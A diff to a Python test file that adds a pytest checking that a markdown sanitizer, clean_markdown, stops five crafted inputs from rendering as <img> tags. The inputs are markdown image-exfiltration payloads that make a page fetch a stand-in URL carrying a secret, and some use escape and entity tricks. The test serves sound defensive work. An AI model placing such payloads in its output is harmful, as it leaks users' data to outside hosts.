@@ -8,6 +8,7 @@ from html.parser import HTMLParser
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from agent.mime import clean_html, clean_markdown, harmless
 
@@ -107,3 +108,17 @@ def test_a_bundle_is_reduced_to_what_can_be_looked_at() -> None:
         "image/png": "AAAA",
         "text/html": "<b>hi</b>",
     }
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "![](https://example.org/?secret)",
+        r"\\![x](https://example.org/?secret)",
+        "![x][out]\n\n[out]: https://example.org/?secret",
+        "[![x](https://example.org/?secret)](https://example.org)",
+        "!&#91;x](https://example.org/?secret)",
+    ],
+)
+def test_markdown_makes_the_page_fetch_nothing(attack: str) -> None:
+    assert "<img" not in MarkdownIt().render(clean_markdown(attack))
